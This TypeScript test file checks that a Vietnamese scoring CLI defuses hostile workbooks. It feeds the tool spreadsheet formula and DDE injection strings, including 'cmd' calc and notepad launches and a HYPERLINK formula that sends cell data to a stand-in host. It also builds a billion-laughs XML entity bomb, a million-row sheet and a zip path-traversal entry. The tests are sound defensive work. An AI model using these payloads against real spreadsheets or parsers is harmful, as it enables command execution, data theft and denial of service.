/**
 * Hostile input to `thidua score`: text that a spreadsheet would run as a formula or a DDE command (in unit names
 * and in figure cells), written back as text everywhere the program repeats it — never a formula, as ExcelJS and
 * LibreOffice read the copy — and sheets of all 1,048,576 rows, refused in a sentence within a 256 MB heap.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, promises as fs, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { streamedXlsx } from '@thidua/core/testing';
import { loadWorkbook, ROOT, run, tempDir } from './helpers';

const PLAN = {
  id: 'thu-nghiem-chu',
  version: '1.0.0',
  title: 'Kế hoạch thử nghiệm',
  source: { number: '1/KH-UBND', issuer: 'UBND xã Thử Nghiệm', date: '2024-01-10' },
  period: { from: '2024-01-01', to: '2024-12-31' },
  blocks: [{ id: 'xa', name: 'Khối xã', prizeFund: 10_000_000 }],
  criteria: [
    {
      id: 'tc1',
      number: '1',
      title: 'Ban hành kế hoạch chuyển đổi số của đơn vị',
      maxPoints: 10,
      scoring: { kind: 'yesNo' },
    },
    {
      id: 'tc2',
      number: '2',
      title: 'Số lượng tin bài tuyên truyền',
      maxPoints: 5,
      scoring: { kind: 'count', method: 'perItem', perItem: 0.5 },
    },
  ],
  ranking: { order: 'desc', tieBreakers: [] },
  awards: { tiers: [{ id: 'nhat', name: 'Giải Nhất', count: 1, minTotal: 1, prize: 5_000_000 }] },
};

const INJECTED = [
  `+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C notepad'!A0`,
  `=1+1`,
];

const dir = tempDir();
const planPath = join(dir, 'ke-hoach.json');
afterAll(() => fs.rm(dir, { recursive: true, force: true }));

/** Every formula in the sheet parts of a package. */
function formulas(bytes: Uint8Array): string[] {
  const files = unzipSync(bytes);
  return Object.keys(files)
    .filter((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p))
    .flatMap((p) => [...strFromU8(files[p]).matchAll(/<f\b[^>]*>([^<]*)<\/f>/g)].map((m) => m[1]));
}

describe('text that looks like a formula or a DDE command', () => {
  let output: string;
  let res: Awaited<ReturnType<typeof run>>;

  beforeAll(async () => {
    await fs.writeFile(planPath, JSON.stringify(PLAN));
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Tổng hợp');
    ws.getRow(1).values = [
      'STT',
      'Tên đơn vị',
      '1. Ban hành kế hoạch chuyển đổi số của đơn vị',
      '2. Số lượng tin bài tuyên truyền',
    ];
    INJECTED.forEach((text, i) => {
      ws.getCell(2 + i, 1).value = i + 1;
      ws.getCell(2 + i, 2).value = `Xã ${text}`; // the name itself is plain, its figures are not
      ws.getCell(2 + i, 3).value = text; // a yes/no cell holding the text
      ws.getCell(2 + i, 4).value = 3;
    });
    INJECTED.forEach((text, i) => {
      ws.getCell(7 + i, 1).value = 6 + i;
      ws.getCell(7 + i, 2).value = text; // a unit named so
      ws.getCell(7 + i, 3).value = 'Có';
      ws.getCell(7 + i, 4).value = i;
    });
    const input = join(dir, 'cong-thuc.xlsx');
    await fs.writeFile(input, new Uint8Array(await wb.xlsx.writeBuffer()));
    output = join(dir, 'cong-thuc-ket-qua.xlsx');
    res = await run(['score', '--plan', planPath, input, '-o', output]);
  });

  it('is scored (exit 0), no stack trace', () => {
    expect(res.code).toBe(0);
    expect(res.err).not.toMatch(/\n\s+at |Lỗi không mong đợi/);
  });

  it('the copy holds no formula at all, and every name and quoted text reads back as typed', async () => {
    const bytes = new Uint8Array(await fs.readFile(output));
    expect(formulas(bytes)).toEqual([]);
    const wb = await loadWorkbook(output);
    const ws = wb.getWorksheet('Tổng hợp') as ExcelJS.Worksheet;
    expect(INJECTED.map((_, i) => ws.getCell(7 + i, 2).value)).toEqual(INJECTED);
    expect(INJECTED.map((_, i) => ws.getCell(2 + i, 3).value)).toEqual(INJECTED);
    const written: string[] = [];
    for (const sheet of wb.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((c) => {
          expect(typeof c.value === 'object' && c.value && 'formula' in c.value).toBe(false);
          if (typeof c.value === 'string' && INJECTED.some((t) => c.value === t)) written.push(c.value);
        }),
      );
    // the names on the official's sheet, on "Kết quả" and on "Giải trình"
    for (const text of INJECTED) expect(written.filter((w) => w === text).length).toBeGreaterThanOrEqual(3);
  });

  const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));
  (soffice ? it : it.skip)('LibreOffice shows the text, not a computed value', () => {
    const out = join(dir, 'csv');
    execFileSync(
      soffice as string,
      ['--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', out, output],
      {
        stdio: 'ignore',
        timeout: 120_000,
      },
    );
    const csv = readFileSync(join(out, 'cong-thuc-ket-qua.csv'), 'utf8');
    for (const text of INJECTED) expect(csv).toContain(text.includes('"') ? text.replace(/"/g, '""') : text);
  });
});

describe('a sheet of all 1,048,576 rows (child process, 256 MB heap)', () => {
  const inline = (ref: string, t: string) => `<c r="${ref}" t="inlineStr"><is><t>${t}</t></is></c>`;

  function cli(args: string[]) {
    const child = spawnSync(
      process.execPath,
      ['--max-old-space-size=256', '--import', 'tsx', join(ROOT, 'cli/src/main.ts'), ...args],
      { cwd: ROOT, encoding: 'utf8', maxBuffer: 16 * 1024 * 1024 },
    );
    return { code: child.status, err: child.stderr, out: child.stdout };
  }

  it.each<[string, string, string, () => Generator<string>]>([
    [
      'a value in every row',
      'vi',
      'Sheet "Dữ liệu" có 1.048.576 ô có dữ liệu hoặc định dạng, quá giới hạn 250.000 ô',
      function* () {
        for (let r = 1; r <= 1_048_576; r++) yield `<row r="${r}"><c r="A${r}"><v>1</v></c></row>`;
      },
    ],
    [
      'a small table, then every row down to the last given a height and nothing else',
      'en',
      'Sheet "Dữ liệu" has 1,048,576 rows',
      function* () {
        yield `<row r="1">${inline('A1', 'STT')}${inline('B1', 'Tên đơn vị')}${inline('C1', 'Tiêu chí 1')}</row>`;
        yield `<row r="2"><c r="A2"><v>1</v></c>${inline('B2', 'Xã A')}<c r="C2"><v>5</v></c></row>`;
        for (let r = 3; r <= 1_048_576; r++) yield `<row r="${r}" ht="15" customHeight="1"/>`;
      },
    ],
  ])(
    '%s: exit 2, one sentence naming the sheet and the figure (--lang %s), no output',
    async (_what, lang, said, body) => {
      const input = join(dir, `rows-${lang}.xlsx`);
      await fs.writeFile(input, streamedXlsx('Dữ liệu', body()));
      const out = join(dir, `rows-${lang}-out.xlsx`);
      const res = cli(['score', '--plan', 'phung-hiep-2023-xa', input, '-o', out, '--lang', lang]);
      expect(res.code).toBe(2);
      expect(res.err).toContain(said);
      expect(res.err.trim().split('\n')).toHaveLength(1);
      expect(res.err).not.toMatch(/\n\s+at |FATAL ERROR|heap/i);
      expect(existsSync(out)).toBe(false);
    },
    240_000,
  );
});

describe('bytes named .xlsx that are no workbook, or a workbook built to hurt the reader', () => {
  const BILLION_LAUGHS =
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' +
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&d;&d;</t></si></sst>';
  let parts: Record<string, Uint8Array>;
  beforeAll(async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('A').getCell('A1').value = 'x';
    parts = unzipSync(new Uint8Array(await wb.xlsx.writeBuffer()));
  });

  it.each<[string, () => Uint8Array, string, string]>([
    [
      'random bytes',
      () => new Uint8Array(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 251)),
      'không phải sổ Excel .xlsx',
      'is not an .xlsx',
    ],
    ['an empty file', () => new Uint8Array(0), 'rỗng (0 byte)', '(0 bytes)'],
    [
      'a zip of other files',
      () => zipSync({ 'doc.txt': strToU8('xin chào') }),
      'tệp nén (.zip) không chứa sổ Excel',
      '',
    ],
    [
      'a sheet part cut short',
      () => zipSync({ ...parts, 'xl/worksheets/sheet1.xml': strToU8('<worksheet><sheetData><row r="1">') }),
      'bị hỏng hoặc không trọn vẹn',
      'is damaged or incomplete',
    ],
    [
      'nested entities in the shared strings (billion laughs)',
      () => zipSync({ ...parts, 'xl/sharedStrings.xml': strToU8(BILLION_LAUGHS) }),
      'bị hỏng hoặc không trọn vẹn',
      'is damaged or incomplete',
    ],
  ])('%s: exit 2, one sentence naming the file, no output', async (what, make, vi, en) => {
    const input = join(dir, `${what.replace(/\W+/g, '-')}.xlsx`);
    await fs.writeFile(input, make());
    const out = join(dir, `${what.replace(/\W+/g, '-')}-out.xlsx`);
    for (const [lang, said] of [
      ['vi', vi],
      ['en', en],
    ]) {
      const res = await run(['score', '--plan', 'phung-hiep-2023-xa', input, '-o', out, '--lang', lang]);
      expect(res.code).toBe(2);
      expect(res.err).toContain(`"${input}"`);
      expect(res.err).toContain(said);
      expect(res.err.trim().split('\n')).toHaveLength(1);
      expect(res.err).not.toMatch(/\n\s+at |Error:|jszip|sax|https?:/i);
    }
    expect(existsSync(out)).toBe(false);
  });

  it('an entry named "../../x" is never written anywhere; the sheet is read as usual', async () => {
    const input = join(dir, 'traversal.xlsx');
    await fs.writeFile(input, zipSync({ ...parts, '../../thidua-escaped.txt': strToU8('x') }));
    const res = await run(['validate', '--plan', 'phung-hiep-2023-xa', input]);
    expect(res.code).toBe(2);
    expect(res.err).toContain('Không tìm thấy bảng chấm điểm');
    expect(existsSync(join(dir, '..', '..', 'thidua-escaped.txt'))).toBe(false);
  });
});
